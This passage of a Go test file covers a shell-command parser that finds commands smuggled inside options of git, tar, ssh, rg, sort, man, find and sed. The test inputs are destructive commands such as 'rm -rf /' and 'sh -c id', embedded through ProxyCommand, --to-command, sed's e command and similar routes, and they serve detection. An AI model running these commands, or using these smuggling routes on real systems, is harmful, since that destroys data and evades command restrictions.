		{name: "git rebase -x", src: "git rebase -x 'rm -rf /' main", has: []string{"rm -rf /"}},
		{name: "git rebase --exec=", src: "git rebase --exec='rm -rf /' main", has: []string{"rm -rf /"}},
		{name: "git bisect run", src: "git bisect run rm -rf /", has: []string{"rm -rf /"}},
		{name: "git submodule foreach", src: "git submodule foreach 'rm -rf /'", has: []string{"rm -rf /"}},
		{name: "git config stores a command", src: "git config core.fsmonitor 'rm -rf /'", undecidable: true},
		{name: "git clone --upload-pack", src: "git clone --upload-pack='touch x' repo", has: []string{"touch x"}},
		{name: "git ext transport", src: "git clone 'ext::sh -c id' x", undecidable: true},
		{name: "rg --pre", src: "rg --pre ./evil pattern", has: []string{"./evil"},
			check: func(t *testing.T, cmds []Command) { wantField(t, cmds, "./evil", "argsFromInput", fromIn, true) }},
		{name: "rg --pre=", src: "rg --pre=sh x", has: []string{"sh"}, undecidable: true},
		{name: "tar --to-command", src: "tar --to-command='sh -c id' -xf a.tar", has: []string{"id"}},
		{name: "tar -I", src: "tar -I 'rm -rf /' -xf x", has: []string{"rm -rf /"}},
		{name: "tar checkpoint action", src: "tar --checkpoint=1 --checkpoint-action=exec='rm -rf /' -cf a.tar .", has: []string{"rm -rf /"}},
		{name: "rsync -e", src: "rsync -e 'sh -c id' a b:c", has: []string{"id"}},
		{name: "ssh ProxyCommand", src: "ssh -o ProxyCommand='rm -rf /' host", has: []string{"rm -rf /"}},
		{name: "ssh -oProxyCommand=", src: "ssh -oProxyCommand=id host", has: []string{"id"}},
		{name: "sort --compress-program", src: "sort --compress-program=sh x", has: []string{"sh"}, undecidable: true},
		{name: "man -P", src: "man -P 'rm -rf /' ls", has: []string{"rm -rf /"}},
		{name: "option value only known at run time", src: `rg --pre "$X" y`, undecidable: true},
		{name: "find start point that may be -delete", src: `find "$d" -name '*.o'`, undecidable: true},
		{name: "find unquoted variable", src: `find ./x $opts`, undecidable: true},
		{name: "find value of a test", src: `find . -name "$pat" -type f`},
		{name: "find path with a literal start", src: `find ./"$d" -name x`},
		{name: "git global position", src: `git $opt status`, undecidable: true},
		{name: "git dynamic -c", src: `git -c "$kv" status`, undecidable: true},
		{name: "git push with a variable ref", src: `git push origin "$ref"`, undecidable: true},
		{name: "git push ref after --", src: `git push origin -- "$ref"`},
		{name: "git commit message", src: `git commit -m "$(cat msg)"`, has: []string{"cat msg"}},
		{name: "git checkout variable", src: `git checkout "$branch"`},
		{name: "tar variable options", src: `tar $TAR_OPTS -xf a.tar`, undecidable: true},
		{name: "tar variable file", src: `tar -xf "$archive"`},
		{name: "glob that may hold an option", src: `tar -cf a.tar *`, undecidable: true},
		{name: "ssh variable option", src: `ssh "$@" host`, undecidable: true},
	})
}

func TestReadErrors(t *testing.T) {
	for _, tc := range []struct {
		name, src string
	}{
		{"unclosed paren", "echo ("},
		{"if without then", "if then"},
		{"unclosed quote", "echo 'abc"},
		{"unclosed substitution", "echo $(ls"},
		{"NUL byte", "ls\x00rm"},
		{"too deep", strings.Repeat("(", 5000) + "ls" + strings.Repeat(")", 5000)},
		{"too long", strings.Repeat("a", MaxSource+1)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cmds, err := Read(tc.src)
			if err == nil {
				t.Errorf("Read(%.40q): got %d commands and no error, want an error", tc.src, len(cmds))
			}
		})
	}
}

func TestReadArgv(t *testing.T) {
	for _, tc := range []struct {
		name string
		argv []string
		want []string
	}{
		{"plain", []string{"git", "status"}, []string{"git status"}},
		{"sh -c", []string{"sh", "-c", "git status; rm -rf /"}, []string{"sh -c git status; rm -rf /", "git status", "rm -rf /"}},
		{"env", []string{"/usr/bin/env", "X=1", "git", "log"}, []string{"/usr/bin/env X=1 git log", "git log"}},
		{"no expansion", []string{"sh", "-c", "$X"}, []string{"sh -c $X", "$X"}},
		{"find -exec", []string{"find", ".", "-exec", "rm", "{}", "+"}, []string{"find . -exec rm {} +", "rm {}"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cmds, err := ReadArgv(tc.argv)
			if err != nil {
				t.Fatalf("ReadArgv(%q): %v", tc.argv, err)
			}
			var got []string
			for _, c := range cmds {
				got = append(got, joined(c))
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("ReadArgv(%q) commands (-want +got):\n%s", tc.argv, diff)
			}
		})
	}
}

func TestStarts(t *testing.T) {
	for prog, want := range map[string]bool{
		"sh": true, "/bin/bash": true, "env": true, "sudo": true, "xargs": true, "find": true, "git": true,
		"rg": true, "tar": true, "ls": false, "cat": false, "/usr/bin/grep": false, "rm": true, "/bin/cp": true, "sed": true, "awk": true,
	} {
		if got := Starts(prog); got != want {
			t.Errorf("Starts(%q): got %v, want %v", prog, got, want)
		}
	}
	if n := testing.AllocsPerRun(100, func() { Starts("/usr/bin/git") }); n != 0 {
		t.Errorf("Starts allocates %v times per call, want 0", n)
	}
}

func TestStartsArgv(t *testing.T) {
	for _, tc := range []struct {
		argv string
		want bool
	}{
		{"git status", false}, {"git log -p", false}, {"git push origin main", false},
		{"git -c core.pager=cat log", true}, {"git rebase -x make main", true}, {"git push --receive-pack=x o", true},
		{"git config user.name x", true}, {"git bisect run make", true}, {"git clone -u x r", true},
		{"find . -name x", false}, {"find . -exec rm {} +", true}, {"rg foo", false}, {"rg --pre=x foo", true},
		{"tar -xf a", false}, {"tar --to-command=x -xf a", true}, {"sh -c id", true}, {"env X=1 ls", true},
		{"ls -la", false}, {"ssh -o ProxyCommand=x h", true}, {"ssh h", false},
	} {
		argv := strings.Fields(tc.argv)
		if got := StartsArgv(argv); got != tc.want {
			t.Errorf("StartsArgv(%q): got %v, want %v", argv, got, tc.want)
		}
		if n := testing.AllocsPerRun(50, func() { StartsArgv(argv) }); n != 0 {
			t.Errorf("StartsArgv(%q) allocates %v times, want 0", argv, n)
		}
	}
}

func TestReadSed(t *testing.T) {
	runReadCases(t, []readCase{
		{name: "plain substitution", src: "sed -n 's/a/b/gp' f"},
		{name: "in place with expression", src: "sed -i.bak -e 's|/usr|/opt|g' -e '/^#/d' f"},
		{name: "e command", src: "sed '1e rm -rf /' f", has: []string{"rm -rf /"},
			check: func(t *testing.T, cmds []Command) { wantField(t, cmds, "rm -rf /", "via", via, []string{"sed"}) }},
		{name: "e command in an expression", src: "sed -n -e p -e '$e touch x' f", has: []string{"touch x"}},
		{name: "bare e runs the pattern space", src: "sed e f", undecidable: true},
		{name: "s///e", src: "sed 's/.*/id/e' f", undecidable: true},
		{name: "w command writes", src: "sed -n '/x/w out.txt' f", check: func(t *testing.T, cmds []Command) {
			wantField(t, cmds, "sed -n /x/w out.txt f", "redirects", redirs, []Redirect{{Op: "w", Path: "out.txt", Write: true}})
		}},
		{name: "s///w writes", src: "sed 's/a/b/w /etc/passwd' f", check: func(t *testing.T, cmds []Command) {
			wantField(t, cmds, "sed s/a/b/w /etc/passwd f", "redirects", redirs, []Redirect{{Op: "w", Path: "/etc/passwd", Write: true}})
		}},
		{name: "script file", src: "sed -f x.sed f", undecidable: true},
		{name: "sandbox", src: "sed --sandbox 's/a/b/e' f"},
		{name: "variable script", src: `sed "$S" f`, undecidable: true},
		{name: "other delimiters and groups", src: `sed -E '/a/,/b/{s#x#y#g;s,p,q,}; 3,$d; y/abc/xyz/' f`},
		{name: "append text with a semicolon", src: "sed '1a hello; e rm -rf /' f", check: func(t *testing.T, cmds []Command) {
			if len(cmds) != 1 {
				t.Errorf("got %d commands, want only sed (a's text runs nothing)", len(cmds))
			}
		}},
	})
}
